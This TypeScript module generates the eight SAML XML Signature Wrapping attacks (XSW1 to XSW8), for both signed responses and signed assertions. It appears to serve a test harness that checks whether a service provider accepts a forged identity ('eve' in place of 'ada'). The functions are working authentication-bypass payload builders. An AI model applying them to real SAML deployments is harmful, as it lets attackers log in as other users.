import type { IdentityProvider, Signs } from './identity-provider.js';

const SIGNATURE = /<ds:Signature [\s\S]*?<\/ds:Signature>/;
const ASSERTION = /<saml:Assertion [\s\S]*<\/saml:Assertion>/;

/** A document in pieces. */
export interface Pieces {
  /** The answer as it was signed. */
  readonly whole: string;
  readonly signature: string;
  readonly assertion: string;
  /** The signed element without its signature. */
  readonly original: string;
}

/** An evil copy: another name, another ID. */
const evil = (text: string): string => text.replaceAll('>ada<', '>eve<').replaceAll(/ID="_/g, 'ID="_e');
const unsigned = (text: string): string => text.replace(SIGNATURE, '');
/** Puts something in front of the end of an element. */
const before = (end: string, what: string, text: string): string => {
  const at = text.lastIndexOf(end);
  return text.slice(0, at) + what + text.slice(at);
};
const withObject = (signature: string, what: string): string =>
  signature.replace('</ds:Signature>', `<ds:Object>${what}</ds:Object></ds:Signature>`);

/**
 * XSW1 to XSW8, of Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be" (2012), as SAML Raider numbers them: a
 * copy that says something else stands where a careless reader looks, the signed original where only the signature does.
 */
export const ON_RESPONSE: Readonly<Record<string, (pieces: Pieces) => string>> = {
  XSW1: ({ whole, signature, original }) => evil(whole).replace(SIGNATURE, withObject(signature, original)),
  XSW2: ({ whole, signature, original }) => evil(whole).replace(SIGNATURE, `${original}${signature}`),
  XSW3: ({ whole }) => evil(unsigned(whole)).replace('<saml:Issuer>', `${whole}<saml:Issuer>`),
  XSW4: ({ whole }) => before('</samlp:Response>', whole, evil(unsigned(whole))),
  XSW5: ({ whole, signature, original }) =>
    before('</samlp:Response>', original, evil(whole).replace(SIGNATURE, signature)),
  XSW6: ({ whole, signature, original }) =>
    evil(whole).replace(SIGNATURE, signature.replace('<ds:KeyInfo>', `<ds:KeyInfo>${original}`)),
  XSW7: ({ whole }) =>
    evil(unsigned(whole)).replace('<samlp:Status>', `<samlp:Extensions>${whole}</samlp:Extensions><samlp:Status>`),
  XSW8: ({ whole, signature, original }) =>
    before('</samlp:Response>', withObject(signature, original), evil(unsigned(whole))),
};

export const ON_ASSERTION: Readonly<Record<string, (pieces: Pieces) => string>> = {
  XSW1: ({ whole, signature, original }) =>
    evil(unsigned(whole)).replace(/<samlp:Status>/, `${signature}${original}<samlp:Status>`),
  XSW2: ({ whole, signature, original }) =>
    evil(unsigned(whole)).replace(/<samlp:Status>/, `${original}${signature}<samlp:Status>`),
  XSW3: ({ whole, assertion }) => whole.replace(ASSERTION, `${evil(unsigned(assertion))}${assertion}`),
  XSW4: ({ whole, assertion }) =>
    whole.replace(ASSERTION, before('</saml:Assertion>', assertion, evil(unsigned(assertion)))),
  XSW5: ({ whole, assertion, original }) =>
    before('</samlp:Response>', original, whole.replace(ASSERTION, evil(assertion))),
  XSW6: ({ whole, assertion, signature, original }) =>
    whole.replace(ASSERTION, evil(assertion).replace(SIGNATURE, withObject(signature, original))),
  XSW7: ({ whole, assertion }) =>
    whole.replace(ASSERTION, `<samlp:Extensions>${evil(unsigned(assertion))}</samlp:Extensions>${assertion}`),
  XSW8: ({ whole, assertion, signature, original }) =>
    whole.replace(ASSERTION, evil(assertion).replace(SIGNATURE, withObject(signature, original))),
};

/** An answer about `ada` to be taken apart; what is moved in is about `eve`. */
export function pieces(idp: IdentityProvider, signs: Signs, inResponseTo = '_asked'): Pieces {
  const whole = idp.answer({ signs, inResponseTo });
  const signature = SIGNATURE.exec(whole)?.[0] ?? '';
  const assertion = ASSERTION.exec(whole)?.[0] ?? '';
  return { whole, signature, assertion, original: unsigned(signs === 'response' ? whole : assertion) };
}
